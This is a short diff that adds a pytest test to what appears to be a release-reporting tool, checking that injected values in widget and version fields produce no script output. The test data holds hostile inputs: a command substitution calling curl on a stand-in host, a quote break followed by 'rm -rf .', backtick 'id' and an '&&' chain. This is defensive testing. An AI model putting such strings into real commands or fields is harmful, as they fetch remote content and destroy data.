@@ -109,6 +109,15 @@ def test_texts_of_a_widget_are_made_harmless(text: str) -> None:
     assert not re.search(r"(?<!\\)\]\(", line)
 
 
+@pytest.mark.parametrize(
+    "text", ["$(curl evil.example)", '"; rm -rf . #', "`id`", "1.0 && x", "a\nb", "-rf", "a" * 200, "код"]
+)
+def test_what_a_script_could_run_is_no_output(text: str) -> None:
+    hostile = report(widgets=(CheckedWidget("", text, text, 1),))
+    told = outputs(result(release(text, text, of=hostile), of=hostile))
+    assert (told["widget-code"], told["version"]) == ("", "")
+
+
 def test_the_summary_ends_with_the_release() -> None:
     only = release()
     text = summary(result(only, uploads=(Upload(only, ARTIFACT),)))
